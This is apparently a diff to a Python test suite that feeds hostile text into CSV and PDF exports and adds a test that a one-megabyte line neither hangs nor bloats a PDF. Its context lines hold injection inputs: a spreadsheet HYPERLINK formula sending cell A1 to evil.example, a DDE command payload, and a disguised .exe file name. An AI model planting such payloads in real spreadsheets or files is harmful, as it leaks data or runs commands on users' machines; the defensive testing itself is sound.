@@ -36,6 +36,7 @@ FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc
 ODD = ["invoice\u202efdp.exe", "zero\u200b\u200d\ufeffwidth", "bell\x07\x1b[31mred\x1b[0m", "nul\x00byte"]
 TEXTS = MARKUP + FORMULAS + ODD
 NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
+BIG = "A" * 1_000_000  # one 1 MB line without a break
 
 
 def meeting(text: str, big: str = "") -> tuple[MeetingRecord, dict[str, str]]:
@@ -124,6 +125,22 @@ def test_hostile_text_in_the_mastery_record(qapp: Any, text: str, tmp_path: Path
     check_csv(csv_path, text, "the mastery record's CSV")
     check_pdf(pdf_path, text, "the mastery record's PDF")
     assert len(cells(csv_path)) == len(csv_rows(record)) * len(csv_rows(record)[0])
+
+
+@pytest.mark.parametrize("where", ["meeting", "mastery"])
+def test_a_one_megabyte_line_neither_hangs_a_pdf_export_nor_fills_it(qapp: Any, where: str, tmp_path: Path) -> None:
+    pdf_path = tmp_path / f"{where}.pdf"
+    TALLY.tried_cases(CATEGORY)
+    if where == "meeting":
+        record, titles = meeting("Ordinary title", BIG)
+        assert finished(lambda: meeting_export.write_pdf(pdf_path, record, titles), "a PDF with a 1 MB line")
+    else:
+        big = mastery(BIG)
+        chart = mastery_pdf.chart_image(big).copy()
+        assert finished(lambda: mastery_pdf.write_pdf(pdf_path, mastery_pdf.record_html(big), chart),
+                        "a PDF with a 1 MB line")
+    shown = pdf_text(pdf_path)
+    assert "more characters" in shown and pdf_path.stat().st_size < 2_000_000, shown[-300:]
 
 
 def test_the_file_name_offered_for_a_mastery_record_is_a_plain_name(qtbot: Any, tmp_path: Path) -> None:
